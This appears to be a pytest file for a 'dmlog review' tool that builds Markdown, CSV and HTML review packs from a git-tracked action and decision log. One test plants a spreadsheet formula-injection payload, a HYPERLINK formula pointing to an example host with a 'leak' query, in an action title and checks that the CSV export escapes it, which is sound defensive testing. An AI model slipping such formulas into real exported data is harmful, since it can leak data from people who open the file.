"""`dmlog review`, run as a user runs it, on a log in a git repository made here."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from helpers import ACTIONS, DECISIONS, commit_all, dmlog, edit, git, git_repository, write


def reviewed_log(site: Path) -> Path:
    write(site, {".gitignore": "_build/\n"})
    git_repository(site, date="2020-05-01")
    git(site, "tag", "review-1")
    edit(site, ACTIONS, ":status: open\n:owner: bob", ":status: done\n:closed: 2020-06-10\n:owner: bob")
    edit(site, DECISIONS, ":status: adopted", ":status: implemented")
    commit_all(site, "After the review", "2020-06-10")
    return site


def test_markdown_pack_since_a_tag(mini_site: Path) -> None:
    site = reviewed_log(mini_site)
    result = dmlog(site, "review", "--since", "review-1", "--until", "2020-06-15")
    assert result.returncode == 0, result.stderr
    text = result.stdout
    assert text.startswith("# Review pack: 2020-05-01 to 2020-06-15")
    sections = {part.split("\n", 1)[0]: part for part in text.split("## ")[1:]}
    assert "- **ACT-2020-001** Write the plan down — done — Bob Builder — open → done 2020-06-10" \
        in sections["Actions closed (1)"]
    assert "adopted → implemented 2020-06-10" in sections["Decisions whose status changed (1)"]
    # created with the first commit, on the tag's day: new in the window
    assert "**DEC-2020-001**" in sections["New decisions (1)"]
    # ACT-2020-002 is due 2020-07-01, after the next review
    assert "Open actions due by the next review (2020-06-29) (0)" in sections


FORMULA = '=HYPERLINK("http://example.org/?leak","Write the plan down")'


def test_csv_and_html(mini_site: Path) -> None:
    """The CSV of `dmlog review` and of `dmlog list` shows a title a spreadsheet would
    run as a formula as text (log/spreadsheet.py, which the site's CSV uses too)."""
    edit(mini_site, ACTIONS, "{action} Write the plan down", "{action} " + FORMULA)
    site = reviewed_log(mini_site)
    result = dmlog(site, "review", "--since", "2020-06-01", "--until", "2020-06-15",
                   "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    closed = [r for r in rows if r["section"] == "Actions closed"]
    assert [(r["id"], r["status"], r["change"], r["title"]) for r in closed] == [
        ("ACT-2020-001", "done", "open → done 2020-06-10", "'" + FORMULA)]
    listed = dmlog(site, "list", "actions", "--format", "csv")
    assert listed.returncode == 0, listed.stderr
    titles = {row["id"]: row["title"] for row in csv.DictReader(io.StringIO(listed.stdout))}
    assert titles["ACT-2020-001"] == "'" + FORMULA and titles["ACT-2020-002"][0] != "'"
    assert len(closed[0]["commit"]) == 40
    assert not [r for r in rows if r["section"] == "New decisions"]
    html = dmlog(site, "review", "--since", "2020-06-01", "--format", "html").stdout
    assert html.startswith("<!DOCTYPE html>") and "<h2>Actions closed (1)</h2>" in html


def test_not_git_or_no_such_ref_is_one_line_and_exit_1(mini_site: Path) -> None:
    result = dmlog(mini_site, "review", "--since", "2020-06-01")
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1 and "not in a git repository" in result.stderr
    site = reviewed_log(mini_site)
    result = dmlog(site, "review", "--since", "review-0")
    assert result.returncode == 1 and result.stderr.count("\n") == 1
    assert "'review-0' is neither a date (YYYY-MM-DD) nor a git ref" in result.stderr
    assert "Traceback" not in result.stderr
